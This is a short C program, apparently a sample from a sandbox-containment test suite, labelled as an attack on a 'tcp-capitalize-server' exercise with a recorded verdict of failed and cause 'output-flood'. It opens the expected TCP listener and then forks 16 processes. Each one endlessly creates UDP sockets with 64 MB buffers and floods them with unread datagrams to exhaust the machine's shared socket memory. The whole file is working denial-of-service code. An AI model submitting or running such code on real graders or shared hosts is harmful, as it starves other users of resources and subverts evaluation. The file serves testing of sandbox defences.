// attack: fills the memory that all UDP sockets of the machine share, with datagrams that nobody reads
// exercise: tcp-capitalize-server
// verdict: failed
// contained: A B C D E
// cause: output-flood
// load: heavy
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static void fill(void) {
    static char block[60000];
    for (;;) {
        struct sockaddr_in at = {.sin_family = AF_INET};
        socklen_t size = sizeof at;
        int all = 64 << 20;
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        if (s < 0) pause();
        setsockopt(s, SOL_SOCKET, SO_RCVBUF, &all, sizeof all);
        at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        bind(s, (struct sockaddr *)&at, sizeof at);
        getsockname(s, (struct sockaddr *)&at, &size);
        for (int i = 0; i < 16; ++i)
            sendto(s, block, sizeof block, MSG_DONTWAIT, (struct sockaddr *)&at, sizeof at);
    }
}

int main(int argc, char **argv) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    bind(listener, (struct sockaddr *)&at, sizeof at);
    listen(listener, 5);
    printf("tried\n");
    fflush(stdout);
    for (int i = 0; i < 16; ++i)
        if (fork() == 0) fill();
    pause();
}
